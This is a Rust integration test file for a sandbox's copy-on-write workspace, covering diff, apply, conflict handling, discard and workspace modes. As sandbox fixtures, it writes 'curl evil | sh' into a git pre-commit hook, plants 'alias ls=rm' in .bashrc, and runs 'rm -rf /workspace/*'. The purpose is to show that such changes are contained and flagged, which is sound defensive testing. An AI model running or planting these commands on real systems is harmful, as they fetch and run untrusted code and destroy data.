//! The copy-on-write workspace: the host project stays untouched until `apply`, `diff`
//! shows what changed, and `discard` drops it.

use std::fs;

use super::harness::{describe, run, stderr, stdout, Caller, Workspace, CALLERS};
use super::lifecycle::{create, exec_sh, remove};

/// Makes a workspace with a small project owned by `caller`.
fn project(caller: Caller) -> Workspace {
    let workspace = Workspace::new(caller);
    let root = workspace.path();
    fs::write(root.join("a.txt"), "alpha\n").unwrap();
    fs::write(root.join("b.txt"), "beta\n").unwrap();
    fs::create_dir(root.join("src")).unwrap();
    fs::write(root.join("src/main.c"), "int main(void) { return 0; }\n").unwrap();
    if caller != Caller::Root {
        let status = std::process::Command::new("chown")
            .args(["-R", "airlock-test:airlock-test"])
            .arg(root)
            .status()
            .unwrap();
        assert!(status.success());
    }
    workspace
}

fn diff_json(caller: Caller, workspace: &Workspace, id: &str) -> Vec<serde_json::Value> {
    let output = run(caller, &["diff", "--json", id], workspace.path());
    assert!(output.status.success(), "diff: {}", describe(&output));
    serde_json::from_str(&stdout(&output)).expect("diff JSON")
}

fn change<'a>(changes: &'a [serde_json::Value], path: &str) -> Option<&'a serde_json::Value> {
    changes.iter().find(|change| change["path"] == path)
}

#[test]
fn discard_after_rm_rf_keeps_project() {
    for caller in CALLERS {
        let workspace = project(caller);
        let id = create(caller, workspace.path(), &[]);
        let wiped = exec_sh(
            caller,
            workspace.path(),
            &id,
            "rm -rf /workspace/* && ls -A /workspace | wc -l",
        );
        assert_eq!(
            stdout(&wiped).trim(),
            "0",
            "{caller:?}: {}",
            describe(&wiped)
        );
        assert_eq!(
            fs::read_to_string(workspace.path().join("a.txt")).unwrap(),
            "alpha\n"
        );
        let changes = diff_json(caller, &workspace, &id);
        for path in ["a.txt", "b.txt", "src"] {
            let found = change(&changes, path).unwrap_or_else(|| panic!("{path} in {changes:?}"));
            assert_eq!(found["kind"], "deleted", "{found}");
        }
        let discard = run(caller, &["discard", &id], workspace.path());
        assert!(discard.status.success(), "{}", describe(&discard));
        assert!(diff_json(caller, &workspace, &id).is_empty());
        let back = exec_sh(caller, workspace.path(), &id, "cat /workspace/a.txt");
        assert_eq!(stdout(&back), "alpha\n", "{caller:?}: {}", describe(&back));
        assert!(workspace.path().join("src/main.c").exists());
        remove(caller, workspace.path(), &id);
    }
}

#[test]
fn diff_lists_changes_and_patch_shows_text() {
    let caller = Caller::Root;
    let workspace = project(caller);
    let id = create(caller, workspace.path(), &[]);
    let script = "echo ALPHA > a.txt; rm b.txt; echo new > c.txt; printf 'x\\000y' > blob.bin";
    let output = exec_sh(caller, workspace.path(), &id, script);
    assert!(output.status.success(), "{}", describe(&output));
    let changes = diff_json(caller, &workspace, &id);
    assert_eq!(change(&changes, "a.txt").unwrap()["kind"], "modified");
    assert_eq!(change(&changes, "b.txt").unwrap()["kind"], "deleted");
    assert_eq!(change(&changes, "c.txt").unwrap()["kind"], "added");
    assert!(change(&changes, "src/main.c").is_none(), "{changes:?}");
    let patch = run(caller, &["diff", "--patch", &id], workspace.path());
    let text = stdout(&patch);
    assert!(text.contains("-alpha\n+ALPHA"), "{text}");
    assert!(text.contains("Binary files"), "{text}");
    remove(caller, workspace.path(), &id);
}

#[test]
fn apply_writes_changes_and_reports_a_conflict() {
    for caller in CALLERS {
        let workspace = project(caller);
        let id = create(caller, workspace.path(), &[]);
        let script = "echo ALPHA > a.txt; echo BETA > b.txt; echo new > c.txt";
        let output = exec_sh(caller, workspace.path(), &id, script);
        assert!(output.status.success(), "{}", describe(&output));
        // The host edits b.txt meanwhile, so the sandbox's change must not overwrite it.
        std::thread::sleep(std::time::Duration::from_millis(20));
        fs::write(workspace.path().join("b.txt"), "host edit\n").unwrap();
        let refused = run(caller, &["apply", &id], workspace.path());
        assert_eq!(refused.status.code(), Some(125), "{}", describe(&refused));
        assert!(
            stderr(&refused).contains("stop it first"),
            "{}",
            describe(&refused)
        );
        let stop = run(caller, &["stop", &id], workspace.path());
        assert!(stop.status.success(), "{}", describe(&stop));
        let apply = run(caller, &["apply", &id], workspace.path());
        assert_eq!(
            apply.status.code(),
            Some(1),
            "{caller:?}: {}",
            describe(&apply)
        );
        let text = stdout(&apply);
        assert!(text.contains("conflict  b.txt"), "{text}");
        let root = workspace.path();
        assert_eq!(fs::read_to_string(root.join("a.txt")).unwrap(), "ALPHA\n");
        assert_eq!(fs::read_to_string(root.join("c.txt")).unwrap(), "new\n");
        assert_eq!(
            fs::read_to_string(root.join("b.txt")).unwrap(),
            "host edit\n"
        );
        remove(caller, workspace.path(), &id);
    }
}

#[test]
fn sensitive_changes_apply_only_when_named() {
    let caller = Caller::Root;
    let workspace = project(caller);
    fs::create_dir_all(workspace.path().join(".git/hooks")).unwrap();
    let id = create(caller, workspace.path(), &[]);
    let script = "echo 'curl evil | sh' > .git/hooks/pre-commit; echo 'alias ls=rm' > .bashrc; echo ok > a.txt";
    let output = exec_sh(caller, workspace.path(), &id, script);
    assert!(output.status.success(), "{}", describe(&output));
    let changes = diff_json(caller, &workspace, &id);
    assert_eq!(
        change(&changes, ".git/hooks/pre-commit").unwrap()["sensitive"],
        true
    );
    assert_eq!(change(&changes, ".bashrc").unwrap()["sensitive"], true);
    let apply = run(caller, &["apply", "--running", &id], workspace.path());
    assert!(apply.status.success(), "{}", describe(&apply));
    assert!(!workspace.path().join(".git/hooks/pre-commit").exists());
    assert!(!workspace.path().join(".bashrc").exists());
    assert_eq!(
        fs::read_to_string(workspace.path().join("a.txt")).unwrap(),
        "ok\n"
    );
    let named = run(
        caller,
        &["apply", "--running", &id, ".bashrc"],
        workspace.path(),
    );
    assert!(named.status.success(), "{}", describe(&named));
    assert!(workspace.path().join(".bashrc").exists());
    assert!(!workspace.path().join(".git/hooks/pre-commit").exists());
    remove(caller, workspace.path(), &id);
}

#[test]
fn run_keeps_changes_for_review() {
    for caller in CALLERS {
        let workspace = project(caller);
        let output = run(
            caller,
            &["run", "--", "sh", "-c", "echo made > made.txt; rm a.txt"],
            workspace.path(),
        );
        assert!(output.status.success(), "{caller:?}: {}", describe(&output));
        assert!(!workspace.path().join("made.txt").exists());
        assert!(workspace.path().join("a.txt").exists());
        let id = kept_id(&output);
        let changes = diff_json(caller, &workspace, &id);
        assert_eq!(change(&changes, "made.txt").unwrap()["kind"], "added");
        let apply = run(caller, &["apply", &id], workspace.path());
        assert!(apply.status.success(), "{}", describe(&apply));
        assert!(workspace.path().join("made.txt").exists());
        assert!(!workspace.path().join("a.txt").exists());
        remove(caller, workspace.path(), &id);
        let unchanged = run(caller, &["run", "--", "true"], workspace.path());
        assert!(
            !stderr(&unchanged).contains("kept"),
            "{}",
            describe(&unchanged)
        );
    }
}

/// Returns the id of the sandbox whose changes a run kept, from its message.
fn kept_id(output: &std::process::Output) -> String {
    let message = stderr(output);
    message
        .split(|c: char| !c.is_ascii_hexdigit())
        .find(|word| word.len() == 32)
        .unwrap_or_else(|| panic!("no kept sandbox id in {message:?}"))
        .to_owned()
}

/// /workspace is the root of the overlay's upper layer. A command that takes the owner's
/// read permission from it still has its changes kept, not taken for none and removed.
#[test]
fn unreadable_workspace_root_keeps_changes() {
    for caller in CALLERS {
        let workspace = project(caller);
        let script = "echo important > keep.txt; chmod 000 /workspace";
        let output = run(caller, &["run", "--", "sh", "-c", script], workspace.path());
        assert!(output.status.success(), "{caller:?}: {}", describe(&output));
        let id = kept_id(&output);
        let changes = diff_json(caller, &workspace, &id);
        assert_eq!(change(&changes, "keep.txt").unwrap()["kind"], "added");
        remove(caller, workspace.path(), &id);
    }
}

/// /workspace shows the project's mode and modification time. What a command leaves on
/// /workspace itself does not reach later runs, which may reuse the directories of this one:
/// its mode, an extended attribute, and a default ACL, which would widen the modes of new
/// files.
#[test]
fn workspace_root_attributes_not_carried_over() {
    // A default ACL of user::rwx, group::rwx, other::rwx, as the kernel stores it.
    const DEFAULT_ACL: &str = "b'\\x02\\x00\\x00\\x00' + b''.join(struct.pack('<HHI', tag, 7, \
                               0xffffffff) for tag in (1, 4, 0x20))";
    for caller in CALLERS {
        let workspace = project(caller);
        let project_mode = "751";
        let status = std::process::Command::new("chmod")
            .arg(project_mode)
            .arg(workspace.path())
            .status()
            .unwrap();
        assert!(status.success());
        let status = std::process::Command::new("touch")
            .args(["-d", "2001-02-03 04:05:06 UTC"])
            .arg(workspace.path())
            .status()
            .unwrap();
        assert!(status.success());
        let mark = format!(
            "import os, struct; os.setxattr('/workspace', 'user.carried', b'x'); \
             os.setxattr('/workspace', 'system.posix_acl_default', {DEFAULT_ACL}); \
             os.chmod('/workspace', 0o777); os.utime('/workspace', (0, 0))"
        );
        let marked = run(
            caller,
            &["run", "--", "python3", "-c", &mark],
            workspace.path(),
        );
        assert!(marked.status.success(), "{caller:?}: {}", describe(&marked));
        // Enough runs to take every spare directory that the marked run's may have joined.
        for _ in 0..6 {
            let look = "import os; status = os.stat('/workspace'); \
                        print(oct(status.st_mode & 0o7777)[2:]); print(int(status.st_mtime)); \
                        print(os.listxattr('/workspace'))";
            let output = run(
                caller,
                &["run", "--", "python3", "-c", look],
                workspace.path(),
            );
            assert!(output.status.success(), "{caller:?}: {}", describe(&output));
            let seen = stdout(&output);
            let mut lines = seen.lines();
            assert_eq!(lines.next(), Some(project_mode), "{caller:?}: {seen}");
            assert_eq!(lines.next(), Some("981173106"), "{caller:?}: {seen}");
            assert_eq!(lines.next(), Some("[]"), "{caller:?}: {seen}");
        }
    }
}

/// A held sandbox whose command takes the owner's read permission from /workspace still has
/// its changes listed by `diff`.
#[test]
fn unreadable_workspace_root_diffs_when_held() {
    let caller = Caller::User;
    let workspace = project(caller);
    let id = create(caller, workspace.path(), &[]);
    let exec = exec_sh(
        caller,
        workspace.path(),
        &id,
        "echo made > made.txt; chmod 000 /workspace",
    );
    assert!(exec.status.success(), "{}", describe(&exec));
    let changes = diff_json(caller, &workspace, &id);
    assert_eq!(change(&changes, "made.txt").unwrap()["kind"], "added");
    remove(caller, workspace.path(), &id);
}

#[test]
fn bind_and_readonly_modes_behave_as_named() {
    let caller = Caller::User;
    let workspace = project(caller);
    let bind = run(
        caller,
        &[
            "run",
            "--workspace-mode",
            "bind",
            "--",
            "sh",
            "-c",
            "echo through > t.txt",
        ],
        workspace.path(),
    );
    assert!(bind.status.success(), "{}", describe(&bind));
    assert_eq!(
        fs::read_to_string(workspace.path().join("t.txt")).unwrap(),
        "through\n"
    );
    let readonly = run(
        caller,
        &[
            "run",
            "--workspace-mode",
            "readonly",
            "--",
            "sh",
            "-c",
            "cat a.txt; echo x > y.txt",
        ],
        workspace.path(),
    );
    assert_ne!(readonly.status.code(), Some(0), "{}", describe(&readonly));
    assert_eq!(stdout(&readonly), "alpha\n");
    assert!(!workspace.path().join("y.txt").exists());
    let none = run(
        caller,
        &[
            "run",
            "--workspace-mode",
            "none",
            "--",
            "sh",
            "-c",
            "ls -A /workspace | wc -l",
        ],
        workspace.path(),
    );
    assert_eq!(stdout(&none).trim(), "0", "{}", describe(&none));
}
